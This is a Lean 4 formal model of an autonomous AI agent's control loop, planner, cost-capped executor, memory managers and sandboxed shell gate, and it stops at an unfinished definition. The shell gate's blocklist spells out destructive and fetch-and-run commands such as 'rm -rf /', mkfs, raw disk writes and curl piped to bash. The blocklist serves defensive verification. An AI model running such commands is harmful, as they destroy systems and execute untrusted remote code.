import Mathlib

/-!
Shallow embedding of the autonomous-agent core of the repository
(Orchestrator control loop, Planner, EnhancedExecutor, MemoryManager,
SecureShellExecutor) together with proofs about the claims of the
natural-language specification.

Conventions of the embedding:
* TypeScript strings are modelled as Lean `String` / `List Char`.
* JavaScript regular expressions used by `SecureShellExecutor` are modelled
  by a small executable pattern matcher covering exactly the constructs the
  source patterns use (literals, `\s+`, `\s*`, `.*`).
* JavaScript numbers holding monetary cost and importance scores are
  modelled as `ℚ`; the claims under study depend only on ordered-field
  facts (sums and comparisons), not on IEEE-754 rounding.
* Asynchronous calls to LLM providers, the database, the clock and UUID
  generation are modelled as explicit oracles (environment records) passed
  to the functions; an `Except String` result models a thrown exception.
-/

namespace SecureShellExecutor

/-- Whitespace per the JavaScript `\s` character class (also the character
set removed by `String.prototype.trim`). -/
def isJsWhitespace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c' ||
  c == '\u00A0' || c == '\u1680' || ('\u2000' ≤ c && c ≤ '\u200A') ||
  c == '\u2028' || c == '\u2029' || c == '\u202F' || c == '\u205F' ||
  c == '\u3000' || c == '\uFEFF'

/-- Line terminators, which the JavaScript `.` (without the `s` flag) does
not match. -/
def isJsLineTerminator (c : Char) : Bool :=
  c == '\n' || c == '\r' || c == '\u2028' || c == '\u2029'

/-- Character classes occurring in the dangerous-pattern regexes:
`\s` and the dot. -/
inductive CharClass
  | ws
  | dot
deriving DecidableEq, Repr

def CharClass.matchesChar : CharClass → Char → Bool
  | .ws, c => isJsWhitespace c
  | .dot, c => !isJsLineTerminator c

/-- Regex fragments used by the dangerous patterns: a literal string,
`C+`, and `C*` for a character class `C`. -/
inductive Pat
  | lit (s : List Char)
  | plus (cc : CharClass)
  | star (cc : CharClass)
deriving DecidableEq, Repr

/-- Matching of `C*` followed by a continuation `k`: either the
continuation matches here, or one more class character is consumed.
This gives exactly the backtracking language of the regex star. -/
def matchStar (cc : CharClass) (k : List Char → Bool) : List Char → Bool
  | [] => k []
  | c :: s => k (c :: s) || (cc.matchesChar c && matchStar cc k s)

/-- Does a prefix of `s` match the pattern sequence `ps`? -/
def matchSeq : List Pat → List Char → Bool
  | [], _ => true
  | .lit l :: ps, s => l.isPrefixOf s && matchSeq ps (s.drop l.length)
  | .star cc :: ps, s => matchStar cc (matchSeq ps) s
  | .plus cc :: ps, s =>
    match s with
    | [] => false
    | c :: s' => cc.matchesChar c && matchStar cc (matchSeq ps) s'

/-- Unanchored search, the semantics of `RegExp.prototype.test`: some
suffix of `s` has a prefix matching `ps`. -/
def containsMatch (ps : List Pat) : List Char → Bool
  | [] => matchSeq ps []
  | c :: s => matchSeq ps (c :: s) || containsMatch ps s

/-- The fixed blocklist of `SecureShellExecutor.isCommandAllowed`, each
entry carrying the regex source text used in the rejection reason. -/
def dangerousPatterns : List (String × List Pat) :=
  [ ("rm\\s+-rf\\s+\\/",
      [.lit "rm".toList, .plus .ws, .lit "-rf".toList, .plus .ws, .lit "/".toList]),
    (">\\s*\\/dev\\/sd",
      [.lit ">".toList, .star .ws, .lit "/dev/sd".toList]),
    ("mkfs", [.lit "mkfs".toList]),
    ("dd\\s+if=", [.lit "dd".toList, .plus .ws, .lit "if=".toList]),
    ("curl.*\\|\\s*bash",
      [.lit "curl".toList, .star .dot, .lit "|".toList, .star .ws, .lit "bash".toList]),
    ("wget.*\\|\\s*sh",
      [.lit "wget".toList, .star .dot, .lit "|".toList, .star .ws, .lit "sh".toList]),
    ("eval", [.lit "eval".toList]),
    ("exec", [.lit "exec".toList]),
    ("fork", [.lit "fork".toList]),
    (":\\(\\)\\\x7b.*:\\|:&\\\x7d",
      [.lit [':', '(', ')', '\x7b'], .star .dot, .lit [':', '|', ':', '&', '\x7d']]) ]

/-- String.prototype.trim. -/
def trim (s : List Char) : List Char :=
  ((s.dropWhile isJsWhitespace).reverse.dropWhile isJsWhitespace).reverse

/-- The separator class `[\s|&;]` on which the base command is split. -/
def isSeparator (c : Char) : Bool :=
  isJsWhitespace c || c == '|' || c == '&' || c == ';'

/-- Structured form of the rejection reasons produced by
`isCommandAllowed` (the source interpolates these into message strings). -/
inductive BlockReason
  | dangerousPattern (src : String)
  | notInAllowedList (base : String)
deriving DecidableEq, Repr

inductive CheckResult
  | allowed
  | blocked (reason : BlockReason)
deriving DecidableEq, Repr

/-- Security-relevant configuration consumed by the executor
(`config.security`). -/
structure SecurityConfig where
  allowedShellCommands : List String
  enableShellSandbox : Bool
  maxShellExecutionTime : Nat

/-- First dangerous pattern matching the (already trimmed) command,
returning its regex source. -/
def findDangerous (s : List Char) : Option String :=
  (dangerousPatterns.find? fun p => containsMatch p.2 s).map (·.1)

/-- SecureShellExecutor.isCommandAllowed. -/
def isCommandAllowed (cfg : SecurityConfig) (command : String) : CheckResult :=
  if !cfg.enableShellSandbox then .allowed
  else
    let trimmedCommand := trim command.toList
    match findDangerous trimmedCommand with
    | some src => .blocked (.dangerousPattern src)
    | none =>
      let baseCommand : String := ⟨trimmedCommand.takeWhile fun c => !isSeparator c⟩
      if cfg.allowedShellCommands.contains baseCommand then .allowed
      else .blocked (.notInAllowedList baseCommand)

/-- Outcome of the underlying `execAsync` call, an oracle for the
operating system: normal completion, kill-on-timeout, or failure. -/
inductive SysOutcome
  | ok (stdout stderr : String)
  | timedOut (stdout stderr : String)
  | failed (msg : String) (stdout stderr : String)
deriving DecidableEq, Repr

/-- Structured form of the `error` strings `execute` can produce. -/
inductive ShellError
  | securityViolation (reason : BlockReason)
  | timedOutAfter (ms : Nat)
  | execError (msg : String)
deriving DecidableEq, Repr

/-- Result record of `execute` (stdout/stderr optional as in the source). -/
structure ExecOutcome where
  success : Bool
  stdout? : Option String
  stderr? : Option String
  error? : Option ShellError
  command : String
deriving DecidableEq, Repr

/-- SecureShellExecutor.execute: validate, then run under the system
oracle `sys`. -/
def execute (cfg : SecurityConfig) (command : String) (sys : SysOutcome) : ExecOutcome :=
  match isCommandAllowed cfg command with
  | .blocked reason =>
    { success := false, stdout? := none, stderr? := none,
      error? := some (.securityViolation reason), command }
  | .allowed =>
    match sys with
    | .ok stdout stderr =>
      { success := true, stdout? := some stdout, stderr? := some stderr,
        error? := none, command }
    | .timedOut stdout stderr =>
      { success := false, stdout? := some stdout, stderr? := some stderr,
        error? := some (.timedOutAfter cfg.maxShellExecutionTime), command }
    | .failed msg stdout stderr =>
      { success := false, stdout? := some stdout, stderr? := some stderr,
        error? := some (.execError msg), command }

/-- Concrete configuration used to exercise the gate in witnesses: a
whitelist containing `ls`, `cat`, `echo`, `curl` and `bash`, with the
sandbox enabled. -/
def sampleConfig : SecurityConfig :=
  { allowedShellCommands := ["ls", "cat", "echo", "curl", "bash"],
    enableShellSandbox := true,
    maxShellExecutionTime := 30000 }

end SecureShellExecutor

namespace Planner

/-- Task status enum from `src/types/index.ts`. -/
inductive Status
  | pending
  | in_progress
  | completed
  | failed
deriving DecidableEq, Repr

/-- Task record (`Date` fields modelled as natural-number timestamps). -/
structure Task where
  id : String
  description : String
  status : Status
  priority : Int
  dependencies : List String
  acceptanceCriteria : List String
  createdAt : Nat
  updatedAt : Nat
deriving DecidableEq, Repr

/-- Plan record. -/
structure Plan where
  id : String
  objective : String
  tasks : List Task
  strategy : String
  estimatedSteps : Int
  createdAt : Nat
deriving DecidableEq, Repr

/-- Shape of a successfully `JSON.parse`d planning response, after the
structural field accesses `createPlan` performs.  A `none` field models a
missing/`undefined` JSON field. -/
structure TaskData where
  description : String
  priority : Option Int
  dependencies : Option (List String)
  acceptanceCriteria : Option (List String)
deriving DecidableEq, Repr

structure PlanData where
  strategy : String
  estimatedSteps : Option Int
  tasks : List TaskData
deriving DecidableEq, Repr

/-- JavaScript `x || d` on a number field: `undefined`, `null` and the
falsy number `0` all yield the default. -/
def jsOrInt (v : Option Int) (d : Int) : Int :=
  match v with
  | none => d
  | some n => if n = 0 then d else n

/-- The `planData.tasks.map((t) => ...)` step shared by `createPlan` and
`revisePlan`; `taskId i` models the `uuidv4()` call for the i-th task and
`now` the `new Date()` timestamps. -/
def mapTaskData (taskId : Nat → String) (now : Nat) (ts : List TaskData) : List Task :=
  ts.mapIdx fun i t =>
    { id := taskId i
      description := t.description
      status := .pending
      priority := jsOrInt t.priority 5
      dependencies := t.dependencies.getD []
      acceptanceCriteria := t.acceptanceCriteria.getD []
      createdAt := now
      updatedAt := now }

/-- Planner.createPlan, after the LLM call: `parsed` is the result of
`JSON.parse` on the model output (`none` models the parse/shape failure
caught by the `try`/`catch`, which yields the single-task fallback plan).
The prompt construction and the chat call itself are handled by the
caller's environment. -/
def createPlan (objective : String) (parsed : Option PlanData)
    (planId : String) (taskId : Nat → String) (now : Nat) : Plan :=
  match parsed with
  | some planData =>
    let tasks := mapTaskData taskId now planData.tasks
    { id := planId
      objective
      tasks
      strategy := planData.strategy
      estimatedSteps := jsOrInt planData.estimatedSteps (Int.ofNat tasks.length)
      createdAt := now }
  | none =>
    { id := planId
      objective
      tasks := [{ id := taskId 0
                  description := objective
                  status := .pending
                  priority := 5
                  dependencies := []
                  acceptanceCriteria := ["Task completed successfully"]
                  createdAt := now
                  updatedAt := now }]
      strategy := "Direct execution"
      estimatedSteps := 1
      createdAt := now }

/-- Planner.revisePlan, after the LLM call: on parse failure (`none`) the
current plan is returned unchanged. -/
def revisePlan (currentPlan : Plan) (parsed : Option PlanData)
    (planId : String) (taskId : Nat → String) (now : Nat) : Plan :=
  match parsed with
  | some planData =>
    let tasks := mapTaskData taskId now planData.tasks
    { id := planId
      objective := currentPlan.objective
      tasks
      strategy := planData.strategy
      estimatedSteps := jsOrInt planData.estimatedSteps (Int.ofNat tasks.length)
      createdAt := now }
  | none => currentPlan

/-- Planner.getNextTask: filter pending tasks whose dependencies are all
completed, then pick the first after a stable sort by descending
priority (V8's `Array.prototype.sort` is stable). -/
def getNextTask (plan : Plan) : Option Task :=
  let availableTasks := plan.tasks.filter fun task =>
    if task.status != .pending then false
    else task.dependencies.all fun depId =>
      match plan.tasks.find? fun t => t.id == depId with
      | some depTask => depTask.status == .completed
      | none => false
  if availableTasks.length = 0 then none
  else (availableTasks.mergeSort fun a b => b.priority ≤ a.priority).head?

/-- Helper of `updateTaskStatus`: update the first task with the given id
(`Array.prototype.find` returns the first match; the source then mutates
that task in place). -/
def updateTasks (tasks : List Task) (taskId : String) (status : Status) (now : Nat) :
    List Task :=
  match tasks with
  | [] => []
  | t :: ts =>
    if t.id == taskId then { t with status, updatedAt := now } :: ts
    else t :: updateTasks ts taskId status now

/-- Planner.updateTaskStatus. -/
def updateTaskStatus (plan : Plan) (taskId : String) (status : Status) (now : Nat) :
    Plan :=
  { plan with tasks := updateTasks plan.tasks taskId status now }

/-- Planner.isPlanComplete. -/
def isPlanComplete (plan : Plan) : Bool :=
  plan.tasks.all fun task => task.status == .completed || task.status == .failed

/-- Concrete plans used to exercise the planner in witnesses. -/
def emptyPlan : Plan :=
  { id := "plan0", objective := "nothing", tasks := [], strategy := "none",
    estimatedSteps := 0, createdAt := 0 }

def doneTask : Task :=
  { id := "a", description := "first", status := .completed, priority := 9,
    dependencies := [], acceptanceCriteria := ["done"], createdAt := 0, updatedAt := 0 }

def blockedTask : Task :=
  { id := "b", description := "second", status := .pending, priority := 1,
    dependencies := ["a"], acceptanceCriteria := ["done"], createdAt := 0, updatedAt := 0 }

def depPlan : Plan :=
  { id := "plan1", objective := "both", tasks := [doneTask, blockedTask],
    strategy := "sequential", estimatedSteps := 2, createdAt := 0 }

end Planner

namespace MemoryManager

inductive MemType
  | working
  | episodic
  | semantic
deriving DecidableEq, Repr

/-- Memory record; `metadata` (a free-form JS object) is modelled as a
key/value list, `timestamp` as a natural number. -/
structure Memory where
  id : String
  type : MemType
  content : String
  metadata : List (String × String)
  importance : ℚ
  timestamp : Nat
deriving DecidableEq, Repr

def maxWorkingMemorySize : Nat := 10

def maxEpisodicMemorySize : Nat := 100

/-- In-process state of a `MemoryManager` instance (semantic memory is a
`Map` keyed by id, modelled as an association list). -/
structure MMState where
  workingMemory : List Memory
  episodicMemory : List Memory
  semanticMemory : List (String × Memory)
deriving DecidableEq, Repr

def initialState : MMState := { workingMemory := [], episodicMemory := [], semanticMemory := [] }

/-- MemoryManager.addToEpisodicMemory (`uuid` models the `uuidv4()` call,
`now` the `new Date()` timestamp). -/
def addToEpisodicMemory (s : MMState) (content : String) (metadata : List (String × String))
    (uuid : String) (now : Nat) : Memory × MMState :=
  let memory : Memory :=
    { id := uuid, type := .episodic, content, metadata, importance := 7/10, timestamp := now }
  let epi := s.episodicMemory ++ [memory]
  let epi := if epi.length > maxEpisodicMemorySize then epi.drop 1 else epi
  (memory, { s with episodicMemory := epi })

/-- MemoryManager.addToWorkingMemory: push with importance 1.0, then on
overflow shift the oldest entry out and demote it to episodic memory when
its importance exceeds 0.5 (`uuidE` is the uuid the nested episodic add
would consume). -/
def addToWorkingMemory (s : MMState) (content : String) (metadata : List (String × String))
    (uuidW uuidE : String) (now : Nat) : Memory × MMState :=
  let memory : Memory :=
    { id := uuidW, type := .working, content, metadata, importance := 1, timestamp := now }
  let wm := s.workingMemory ++ [memory]
  if wm.length > maxWorkingMemorySize then
    match wm with
    | [] => (memory, { s with workingMemory := wm })
    | removed :: rest =>
      let s := { s with workingMemory := rest }
      if removed.importance > 1/2 then
        (memory, (addToEpisodicMemory s removed.content removed.metadata uuidE now).2)
      else (memory, s)
  else (memory, { s with workingMemory := wm })

/-- Concrete ten-entry working-memory state used to exercise the
eviction path in witnesses. -/
def tenEntryState : MMState :=
  { workingMemory := List.replicate 10
      { id := "w", type := .working, content := "c", metadata := [],
        importance := 1, timestamp := 0 },
    episodicMemory := [], semanticMemory := [] }

/-- One `addToWorkingMemory` call described by its arguments, for
reasoning about arbitrary call sequences. -/
structure AddOp where
  content : String
  metadata : List (String × String)
  uuidW : String
  uuidE : String
  now : Nat
deriving DecidableEq, Repr

def runAdds (s : MMState) (ops : List AddOp) : MMState :=
  ops.foldl (fun s op => (addToWorkingMemory s op.content op.metadata op.uuidW op.uuidE op.now).2) s

end MemoryManager

namespace PersistentMemoryManager

open MemoryManager (Memory MemType maxWorkingMemorySize)

/-- State of a `PersistentMemoryManager`: the in-process working-memory
cache plus the rows inserted into the `memories` table (in insert order).
Embedding generation and database errors are not modelled: inserts are
assumed to succeed when persistence is enabled. -/
structure PMState where
  workingMemoryCache : List Memory
  dbMemories : List Memory
deriving DecidableEq, Repr

def initialState : PMState := { workingMemoryCache := [], dbMemories := [] }

/-- PersistentMemoryManager.addToEpisodicMemory: the record is inserted
into the database only when `config.agent.enablePersistentMemory` holds
(`persistOn`); otherwise it is created, returned and stored nowhere. -/
def insertDb (persistOn : Bool) (s : PMState) (memory : MemoryManager.Memory) : PMState :=
  if persistOn then { s with dbMemories := s.dbMemories ++ [memory] } else s

def addToEpisodicMemory (persistOn : Bool) (s : PMState) (content : String)
    (metadata : List (String × String)) (uuid : String) (now : Nat) : Memory × PMState :=
  let memory : Memory :=
    { id := uuid, type := .episodic, content, metadata, importance := 7/10, timestamp := now }
  (memory, insertDb persistOn s memory)

/-- PersistentMemoryManager.addToWorkingMemory: push to the cache (and
the database when persistence is on), then on cache overflow shift the
oldest entry and demote it via `addToEpisodicMemory` when its importance
exceeds 0.5. -/
def addToWorkingMemory (persistOn : Bool) (s : PMState) (content : String)
    (metadata : List (String × String)) (uuidW uuidE : String) (now : Nat) :
    Memory × PMState :=
  let memory : Memory :=
    { id := uuidW, type := .working, content, metadata, importance := 1, timestamp := now }
  let s := { s with workingMemoryCache := s.workingMemoryCache ++ [memory] }
  let s := insertDb persistOn s memory
  if s.workingMemoryCache.length > maxWorkingMemorySize then
    match s.workingMemoryCache with
    | [] => (memory, s)
    | removed :: rest =>
      let s := { s with workingMemoryCache := rest }
      if removed.importance > 1/2 then
        (memory, (addToEpisodicMemory persistOn s removed.content removed.metadata uuidE now).2)
      else (memory, s)
  else (memory, s)

def runAdds (persistOn : Bool) (s : PMState) (ops : List MemoryManager.AddOp) : PMState :=
  ops.foldl
    (fun s op => (addToWorkingMemory persistOn s op.content op.metadata op.uuidW op.uuidE op.now).2)
    s


end PersistentMemoryManager

namespace EnhancedExecutor

/-- Response of one `modelRouter.chat` call as seen by the executor:
text content, usage accounting, and the list of requested tool
invocations (tool names; arguments are opaque to the control flow
modelled here). -/
structure ChatResp where
  content : String
  tokensUsed : Nat
  cost : ℚ
  toolCalls : List String
deriving Repr

/-- Outcome of dispatching one requested tool invocation: the registry
lookup can miss, and `tool.execute` can return a result or throw. -/
inductive ToolOutcome
  | notFound
  | ok (result : String)
  | err (msg : String)
deriving DecidableEq, Repr

/-- Entry of the executor's tool-call audit log (arguments and timestamp
elided; they do not influence control flow). -/
structure ToolCallLog where
  toolName : String
  result? : Option String
  error? : Option String
deriving DecidableEq, Repr

/-- Oracle for the executor: the main `chat` response of each attempt,
the verification `chat` response of each attempt, and the outcome of the
j-th tool invocation of each attempt.  `Except.error` models a thrown
exception. -/
structure ExecEnv where
  main : Nat → Except String ChatResp
  verif : Nat → Except String ChatResp
  tool : Nat → Nat → ToolOutcome

/-- Structured forms of the `error` strings `executeTask` can produce. -/
inductive ExecError
  | costLimit (total cap : ℚ)
  | failedAfter (attempts : Nat) (msg : String)
  | incompleteAfter (attempts : Nat) (verification : String)
  | maxAttemptsReached
deriving DecidableEq, Repr

/-- ExecutionResult record. -/
structure ExecutionResult where
  success : Bool
  output : Option String
  error : Option ExecError
  toolCalls : List ToolCallLog
  tokensUsed : Nat
  cost : ℚ
deriving Repr

/-- Dispatch of the tool invocations requested by one response: a
missing tool is reported back to the model but *not* recorded in the
audit log; executed tools are logged with their result or error. -/
def processToolCalls (env : ExecEnv) (attempt : Nat) (names : List String) :
    List ToolCallLog :=
  (names.mapIdx fun j nm => (j, nm)).filterMap fun p =>
    match env.tool attempt p.1 with
    | .notFound => none
    | .ok result => some { toolName := p.2, result? := some result, error? := none }
    | .err msg => some { toolName := p.2, result? := none, error? := some msg }

/-- JavaScript `toUpperCase` restricted to the simple character mapping
(sufficient for the `COMPLETE`/`INCOMPLETE` protocol). -/
def upperAscii (s : String) : String := ⟨s.toList.map Char.toUpper⟩

def startsWithComplete (s : String) : Bool :=
  "COMPLETE".toList.isPrefixOf (upperAscii s).toList

/-- Body of `executeTask`'s `while (attempts < maxAttempts)` loop.
`fuel = maxAttempts - attempts` counts the remaining iterations; the
accumulators mirror the source's local variables.  The conversation
history only feeds the prompt, so it is absorbed into the oracle's
indexing by attempt number. -/
def executeTaskGo (env : ExecEnv) (cap : ℚ) (maxAttempts : Nat) :
    Nat → Nat → Nat → ℚ → List ToolCallLog → String → ExecutionResult
  | 0, _, totalTokensUsed, totalCost, toolCalls, lastResponse =>
    { success := false, output := some lastResponse, error := some .maxAttemptsReached,
      toolCalls, tokensUsed := totalTokensUsed, cost := totalCost }
  | fuel + 1, attempts, totalTokensUsed, totalCost, toolCalls, lastResponse =>
    let attempts := attempts + 1
    match env.main attempts with
    | .error msg =>
      if attempts ≥ maxAttempts then
        { success := false, output := none, error := some (.failedAfter maxAttempts msg),
          toolCalls, tokensUsed := totalTokensUsed, cost := totalCost }
      else executeTaskGo env cap maxAttempts fuel attempts totalTokensUsed totalCost
        toolCalls lastResponse
    | .ok response =>
      let totalTokensUsed := totalTokensUsed + response.tokensUsed
      let totalCost := totalCost + response.cost
      let lastResponse := response.content
      if totalCost > cap then
        { success := false, output := none, error := some (.costLimit totalCost cap),
          toolCalls, tokensUsed := totalTokensUsed, cost := totalCost }
      else if !response.toolCalls.isEmpty then
        executeTaskGo env cap maxAttempts fuel attempts totalTokensUsed totalCost
          (toolCalls ++ processToolCalls env attempts response.toolCalls) lastResponse
      else if response.content.length > 0 then
        match env.verif attempts with
        | .error msg =>
          if attempts ≥ maxAttempts then
            { success := false, output := none, error := some (.failedAfter maxAttempts msg),
              toolCalls, tokensUsed := totalTokensUsed, cost := totalCost }
          else executeTaskGo env cap maxAttempts fuel attempts totalTokensUsed totalCost
            toolCalls lastResponse
        | .ok verificationResponse =>
          let totalTokensUsed := totalTokensUsed + verificationResponse.tokensUsed
          let totalCost := totalCost + verificationResponse.cost
          if startsWithComplete verificationResponse.content then
            { success := true, output := some response.content, error := none,
              toolCalls, tokensUsed := totalTokensUsed, cost := totalCost }
          else if attempts ≥ maxAttempts then
            { success := false, output := some response.content,
              error := some (.incompleteAfter maxAttempts verificationResponse.content),
              toolCalls, tokensUsed := totalTokensUsed, cost := totalCost }
          else executeTaskGo env cap maxAttempts fuel attempts totalTokensUsed totalCost
            toolCalls lastResponse
      else executeTaskGo env cap maxAttempts fuel attempts totalTokensUsed totalCost
        toolCalls lastResponse

/-- EnhancedExecutor.executeTask: bounded conversation loop with
tool-calling and a separate verification call; `cap` is
`config.agent.maxCostPerSession`.  The task only feeds the prompts, so it
does not appear in the control flow. -/
def executeTask (env : ExecEnv) (cap : ℚ) : ExecutionResult :=
  executeTaskGo env cap 5 5 0 0 0 [] ""


/-- Oracle where the single model call of each attempt answers `done`
(cost 0.6), no tools are requested, and verification always answers
`COMPLETE` (cost 0.6): with a cap of 1 the verification call pushes the
accumulated cost over the cap. -/
def completingEnv : ExecEnv :=
  { main := fun _ => .ok { content := "done", tokensUsed := 10, cost := 3/5, toolCalls := [] },
    verif := fun _ => .ok { content := "COMPLETE: ok", tokensUsed := 5, cost := 3/5,
                            toolCalls := [] },
    tool := fun _ _ => .notFound }

/-- Oracle whose every model call costs 2, above a session cap of 1. -/
def overCapEnv : ExecEnv :=
  { main := fun _ => .ok { content := "x", tokensUsed := 7, cost := 2, toolCalls := [] },
    verif := fun _ => .ok { content := "INCOMPLETE: no", tokensUsed := 5, cost := 2,
                            toolCalls := [] },
    tool := fun _ _ => .notFound }

end EnhancedExecutor

namespace Orchestrator

open Planner (Plan Task Status PlanData)

/-- Agent phase enum. -/
inductive Phase
  | idle
  | thinking
  | planning
  | executing
  | reflecting
  | completed
deriving DecidableEq, Repr

/-- Lifecycle events emitted by the orchestrator. -/
inductive Event
  | directiveReceived
  | phaseChanged (phase : Phase)
  | thinkingCompleted
  | planCreated (planId : String)
  | planRevised (planId : String)
  | taskStarted (taskId : String)
  | taskCompleted (taskId : String)
  | taskFailed (taskId : String)
  | reflectionCompleted
  | planCompleted (planId : String)
  | costLimitReached
  | agentStopped
deriving DecidableEq, Repr

/-- AgentState (plus the running flag and the emitted-event log; memory
contents are tracked by the memory manager model and are not needed for
the loop claims, so the orchestrator model elides its memory writes). -/
structure St where
  currentPhase : Phase
  currentPlan : Option Plan
  currentTask : Option Task
  iterationCount : Nat
  lastActivity : Nat
  totalTokensUsed : Nat
  totalCost : ℚ
  isRunning : Bool
  events : List Event

/-- Budget configuration consumed by the loop (`config.agent`). -/
structure OrchConfig where
  maxIterations : Nat
  maxExecutionTimeMs : Nat
  maxCostPerSession : ℚ

/-- Usage record of one successful `chat` call as consumed by the
think phase. -/
structure ChatUsage where
  content : String
  tokensUsed : Nat
  cost : ℚ

/-- Result of `critic.evaluatePlanProgress` (which never throws: its
`try`/`catch` returns a neutral default on any failure). -/
structure EvalResult where
  progressScore : ℚ
  shouldContinue : Bool
  feedback : String

/-- Oracle for the loop, indexed by the iteration number: wall-clock
elapsed time at each iteration, the outcomes of the think / planning /
revision chat calls (`Except.error` models a thrown exception; the
`Option PlanData` models the JSON parse of the planning output), uuid
and timestamp supplies, the executor's oracle, and the critic's
progress evaluation. -/
structure OrchEnv where
  elapsed : Nat → Nat
  think : Nat → Except String ChatUsage
  planChat : Nat → Except String (Option PlanData)
  planId : Nat → String
  planTaskId : Nat → Nat → String
  execEnv : Nat → EnhancedExecutor.ExecEnv
  evalResult : Nat → EvalResult
  reviseChat : Nat → Except String (Option PlanData)
  reviseId : Nat → String
  reviseTaskId : Nat → Nat → String
  time : Nat → Nat

/-- Think phase: set phase `thinking`, run one reasoning chat call,
accumulate usage on success; a failure is caught and swallowed. -/
def thinkPhase (env : OrchEnv) (i : Nat) (s : St) : St :=
  let s := { s with currentPhase := Phase.thinking,
                    events := s.events ++ [Event.phaseChanged Phase.thinking] }
  match env.think i with
  | .ok u =>
    { s with totalTokensUsed := s.totalTokensUsed + u.tokensUsed,
             totalCost := s.totalCost + u.cost,
             events := s.events ++ [Event.thinkingCompleted] }
  | .error _ => s

/-- Plan phase: set phase `planning`, call `planner.createPlan` and
install the new plan.  A thrown chat error propagates (second component
`true`); state mutations made before the throw persist, as in the
source. -/
def planPhase (env : OrchEnv) (objective : String) (i : Nat) (s : St) : St × Bool :=
  let s := { s with currentPhase := Phase.planning,
                    events := s.events ++ [Event.phaseChanged Phase.planning] }
  match env.planChat i with
  | .error _ => (s, true)
  | .ok parsed =>
    let plan := Planner.createPlan objective parsed (env.planId i) (env.planTaskId i)
      (env.time i)
    ({ s with currentPlan := some plan,
              events := s.events ++ [Event.planCreated plan.id] }, false)

/-- Act phase: set phase `executing`; pick the next eligible task, mark
it `in_progress`, run the executor, then mark it `completed` or `failed`
and emit the matching event.  The executor model is total, so the
source's catch-and-mark-failed branch is unreachable here. -/
def actPhase (env : OrchEnv) (cap : ℚ) (i : Nat) (s : St) : St :=
  let s := { s with currentPhase := Phase.executing,
                    events := s.events ++ [Event.phaseChanged Phase.executing] }
  match s.currentPlan with
  | none => s
  | some plan =>
    match Planner.getNextTask plan with
    | none => s
    | some nextTask =>
      let plan := Planner.updateTaskStatus plan nextTask.id Status.in_progress (env.time i)
      let s := { s with currentPlan := some plan, currentTask := some nextTask,
                        events := s.events ++ [Event.taskStarted nextTask.id] }
      let result := EnhancedExecutor.executeTask (env.execEnv i) cap
      let s := { s with totalTokensUsed := s.totalTokensUsed + result.tokensUsed,
                        totalCost := s.totalCost + result.cost }
      if result.success then
        { s with currentPlan := some (Planner.updateTaskStatus plan nextTask.id Status.completed
                   (env.time i)),
                 currentTask := none,
                 events := s.events ++ [Event.taskCompleted nextTask.id] }
      else
        { s with currentPlan := some (Planner.updateTaskStatus plan nextTask.id Status.failed
                   (env.time i)),
                 currentTask := none,
                 events := s.events ++ [Event.taskFailed nextTask.id] }

/-- Reflect phase: set phase `reflecting`; once a task has reached a
terminal status, evaluate progress and possibly revise the plan.  All
failures inside are caught at the phase level, so the phase is total; a
thrown revision chat is modelled by leaving the plan untouched. -/
def reflectPhase (env : OrchEnv) (i : Nat) (s : St) : St :=
  let s := { s with currentPhase := Phase.reflecting,
                    events := s.events ++ [Event.phaseChanged Phase.reflecting] }
  match s.currentPlan with
  | none => s
  | some plan =>
    let completedTasks := plan.tasks.filter fun t => t.status == .completed
    let failedTasks := plan.tasks.filter fun t => t.status == .failed
    if completedTasks.length = 0 && failedTasks.length = 0 then s
    else
      let evaluation := env.evalResult i
      let s := { s with events := s.events ++ [Event.reflectionCompleted] }
      if !evaluation.shouldContinue || failedTasks.length > 3 then
        match env.reviseChat i with
        | .error _ => s
        | .ok parsed =>
          let revisedPlan := Planner.revisePlan plan parsed (env.reviseId i)
            (env.reviseTaskId i) (env.time i)
          { s with currentPlan := some revisedPlan,
                   events := s.events ++ [Event.planRevised revisedPlan.id] }
      else s

/-- Exit mode of one loop-body pass: `brk` leaves the `while` via a
`break`, `cont` proceeds to the next iteration. -/
inductive StepExit
  | brk (s : St)
  | cont (s : St)

/-- One pass of the loop body after the budget checks: think; plan when
no plan exists (or the phase was externally set to `planning`); exit via
the plan-completed break when every task is terminal; otherwise act and
reflect.  A planning throw is caught by the per-iteration handler, which
logs and continues.  The every-10th-iteration memory consolidation is a
memory-side effect elided here. -/
def iterationBody (env : OrchEnv) (objective : String) (cap : ℚ) (i : Nat) (s : St) :
    StepExit :=
  let s := thinkPhase env i s
  let planStep :=
    if s.currentPlan.isNone || s.currentPhase == Phase.planning then
      planPhase env objective i s
    else (s, false)
  let s := planStep.1
  if planStep.2 then .cont s
  else
    match s.currentPlan with
    | some plan =>
      if Planner.isPlanComplete plan then
        .brk { s with currentPhase := Phase.completed,
                      events := s.events ++ [Event.phaseChanged Phase.completed,
                                             Event.planCompleted plan.id] }
      else .cont (reflectPhase env i (actPhase env cap i s))
    | none => .cont (reflectPhase env i (actPhase env cap i s))

/-- Code run after the `while` loop exits, whatever the exit path: the
phase is set to `completed` unconditionally (Orchestrator.ts line 152). -/
def finishLoop (s : St) : St := { s with currentPhase := Phase.completed }

/-- The `while (iterationCount < maxIterations)` loop.  `fuel` is the
number of remaining permitted iterations; the second component counts
how many times the loop body was entered.  Each pass increments the
iteration counter, records activity, applies the wall-clock and cost
budget checks (emitting `cost_limit_reached` for the latter), then runs
the body. -/
def loopRun (cfg : OrchConfig) (env : OrchEnv) (objective : String) :
    Nat → St → St × Nat
  | 0, s => (finishLoop s, 0)
  | fuel + 1, s =>
    let s := { s with iterationCount := s.iterationCount + 1,
                      lastActivity := env.elapsed (s.iterationCount + 1) }
    let i := s.iterationCount
    if env.elapsed i > cfg.maxExecutionTimeMs then (finishLoop s, 1)
    else if s.totalCost > cfg.maxCostPerSession then
      (finishLoop { s with events := s.events ++ [Event.costLimitReached] }, 1)
    else
      match iterationBody env objective cfg.maxCostPerSession i s with
      | .brk s => (finishLoop s, 1)
      | .cont s =>
        let r := loopRun cfg env objective fuel s
        (r.1, r.2 + 1)

/-- Orchestrator.autonomousLoop (the initial working-memory write is a
memory-side effect elided here). -/
def autonomousLoop (cfg : OrchConfig) (env : OrchEnv) (objective : String) (s : St) : St :=
  (loopRun cfg env objective (cfg.maxIterations - s.iterationCount) s).1

/-- Number of times the loop body is entered during `autonomousLoop`. -/
def loopBodyRuns (cfg : OrchConfig) (env : OrchEnv) (objective : String) (s : St) : Nat :=
